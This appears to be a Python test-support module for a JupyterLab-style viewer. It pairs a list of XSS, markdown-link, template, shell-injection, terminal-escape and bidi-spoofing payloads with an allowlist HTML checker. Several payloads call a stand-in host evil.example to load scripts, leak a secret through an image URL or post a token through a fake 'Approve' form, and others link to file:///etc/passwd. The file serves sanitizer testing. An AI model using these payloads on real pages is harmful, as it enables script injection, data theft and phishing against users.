"""Hostile texts: what an agent could write so that a page runs it, loads it, styles itself by it, or is led astray.

`PAYLOADS` are shown by every view (fault rows E7, F4, F5, F8). Each that runs sets ``window.fired`` or makes a dialog,
each that loads asks ``evil.example``: a browser test looks for both. `problems` reads HTML as a strict judge.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

EVIL = "http://evil.example"

PAYLOADS = [
    # scripts and event handlers
    "<script>window.fired=1</script>",
    "<ScRiPt src=http://evil.example/x.js></sCrIpT>",
    "<script\x0d>window.fired=1</script\x0d>",
    "<scr<script>ipt>window.fired=1</scr</script>ipt>",
    "<img src=x onerror=window.fired=1>",
    "<img/src=x/onerror=window.fired=1//",
    "<svg onload=window.fired=1>",
    "<svg><script>window.fired=1</script></svg>",
    "<svg><a xlink:href='javascript:window.fired=1'><text y=20>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.fired=1>",
    "<body onload=window.fired=1>",
    "<details open ontoggle=window.fired=1>",
    "<video><source onerror=window.fired=1></video>",
    "<input autofocus onfocus=window.fired=1>",
    "<marquee onstart=window.fired=1>x</marquee>",
    "<p style='animation-name:x' onanimationstart=window.fired=1>x</p>",
    # elements that load, navigate, style or take over
    "<iframe src=javascript:window.fired=1></iframe>",
    "<iframe srcdoc='<script>parent.fired=1</script>'></iframe>",
    "<object data=http://evil.example/x.swf></object><embed src=http://evil.example/x>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=http://evil.example/>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css'; body{display:none}</style>",
    "<form action=http://evil.example/><input name=token><button>Approve</button></form>",
    "<audio src=http://evil.example/a.mp3 autoplay>",
    "<table background=http://evil.example/x.png><tr><td>x</td></tr></table>",
    "<div style='position:fixed;inset:0;background:url(http://evil.example/x)'>Approved</div>",
    "<div class='jp-Dialog' id='main'>x</div>",
    # comments, sections, entities, broken markup
    "<!-- --><script>window.fired=1</script><!-- -->",
    "<!--<img src='--><img src=x onerror=window.fired=1>//'>",
    "<![CDATA[<script>window.fired=1</script>]]>",
    "<?php echo 1 ?><?xml version='1.0'?>",
    "</pre></code></details></td></table></div><script>window.fired=1</script>",
    "&lt;script&gt;window.fired=1&lt;/script&gt; &#60;img src=x onerror=window.fired=1&#62;",
    "<noscript><p title='</noscript><img src=x onerror=window.fired=1>'>",
    "<textarea><img title='</textarea><img src=x onerror=window.fired=1>'>",
    # links
    "[click](javascript:window.fired=1)",
    "[click](JaVaScRiPt:window.fired=1 'title')",
    "[click](&#106;avascript:window.fired=1)",
    "[click](java\tscript:window.fired=1) [click](\x01javascript:window.fired=1)",
    "[click](vbscript:msgbox) [click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:window.fired=1> <data:text/html,x> <http://evil.example/a>",
    "[a][b]\n\n[b]: javascript:window.fired=1 'x\" onmouseover=\"window.fired=1'",
    "[click](http://evil.example/?a=\"onmouseover=window.fired=1&b='x)",
    "[click](//evil.example/x) [up](../../../etc/passwd) [file](file:///etc/passwd) [api](/api/shutdown)",
    "[a](<javascript:window.fired=1\n>) [b](\\\\evil.example\\x) [c](blob:http://evil.example/x) [d](#main)",
    # pictures that tell somebody
    "![p](http://evil.example/x.png?secret=1)",
    "![p](https://evil.example/x.png 'x\" onload=\"window.fired=1')",
    "[![p](http://evil.example/x.png)](javascript:window.fired=1)",
    "![p][r]\n\n[r]: http://evil.example/x.svg",
    "![p](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) ![p](data:text/html,x) ![p](attachment:x.png)",
    '!["><img src=x onerror=window.fired=1>](x.png)',
    # templates and shells
    "{{7*7}} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
    "$(touch x) `touch x` ; touch x | touch x && touch x %s %n",
    # what MathJax would typeset
    "$\\href{javascript:window.fired=1}{x}$ $$\\unicode{x41}$$",
    "\\\\(\\href{http://evil.example}{x}\\\\) \\\\[ \\class{jp-Dialog}{x} \\\\] $\\require{html}\\style{color:red}{x}$",
    "\\begin{equation} \\cssId{main}{x} \\end{equation} \\ref{x} \\eqref{x}",
    # terminals and reading direction
    "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07link\x1b]8;;\x07 \x9b2J \x1b]52;c;ZXZpbA==\x07",
    "\u202egnp.exe\u202c \u2066x\u2069 zero\u200bwidth \ufeff \U000e0041 \u2028<script>window.fired=1</script>",
    # structure: Markdown that breaks out of a cell, a list or a quotation
    "| a | b |\n|---|---|\n| <script>window.fired=1</script> | ![x](http://evil.example/x.png) |",
    "- > ```\n<script>window.fired=1</script>\n\n    <img src=x onerror=window.fired=1>\n\n# Approved\n",
    "\n\n![p](http://evil.example/x.png)\n\n<script>window.fired=1</script>\n\n***\n",
]


#: Elements and attributes that a static view may be made of: each passes JupyterLab's sanitizer.
TAGS = {
    *("p", "br", "hr", "h3", "h4", "h5", "h6", "div", "span", "blockquote", "ul", "ol", "li", "pre", "code"),
    *("strong", "em", "s", "b", "a", "img", "table", "thead", "tbody", "tr", "th", "td"),
    *("details", "summary", "progress"),
}
ATTRIBUTES = {
    ("a", "href"), ("a", "rel"), ("img", "src"), ("img", "alt"), ("ol", "start"), ("th", "style"), ("td", "style"),
    ("details", "open"), ("progress", "max"), ("progress", "value"),
}  # fmt: skip
_VOID = {"br", "hr", "img"}
_STYLE = re.compile(
    r"text-align:(left|center|right)|text-align:left;white-space:nowrap;border-left:4px solid #[0-9a-f]{6}"
)
_PICTURE = re.compile(r"data:image/(png|jpeg|gif);base64,[A-Za-z0-9+/]*={0,2}")
#: What MathJax takes for the beginning of something to typeset.
_MATH = re.compile(r"\$.*?\$|\\[(\[]|\\begin|\\(eq)?ref", re.DOTALL)


def problems(html: str) -> list[str]:
    """What is wrong with a piece of HTML: elements, attributes and addresses that are not allowed, broken nesting."""
    judge = _Judge()
    judge.feed(html)
    judge.close()
    unclosed = [f"<{tag}> is not closed" for tag in judge.open]
    blank = ["a blank line"] if re.search(r"\n[ \t]*\n", html) else []
    return judge.found + unclosed + blank


class _Judge(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if (tag, name) not in ATTRIBUTES or not _is_fine(name, value or ""):
                self.found.append(f"<{tag} {name}={value!r}>")
        if tag not in _VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag not in _VOID and (not self.open or self.open.pop() != tag):
            self.found.append(f"</{tag}> closes nothing")

    def handle_data(self, data: str) -> None:
        if not {"pre", "code"} & set(self.open) and (match := _MATH.search(data)):
            self.found.append(f"MathJax would typeset {match[0]!r}")

    def handle_comment(self, data: str) -> None:
        self.found.append("a comment")

    def handle_decl(self, decl: str) -> None:
        self.found.append("a declaration")

    def unknown_decl(self, data: str) -> None:
        self.found.append("a declaration")

    def handle_pi(self, data: str) -> None:
        self.found.append("a processing instruction")


def _is_fine(name: str, value: str) -> bool:
    match name:
        case "href":
            return urlsplit(value).scheme in ("http", "https", "mailto")
        case "src":
            return _PICTURE.fullmatch(value) is not None
        case "style":
            return _STYLE.fullmatch(value) is not None
        case "rel":
            return value == "noopener noreferrer"
    return True


def words(html: str) -> str:
    """The text that a reader of the HTML sees."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return "".join(reader.texts)


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.texts: list[str] = []

    def handle_data(self, data: str) -> None:
        self.texts.append(data)
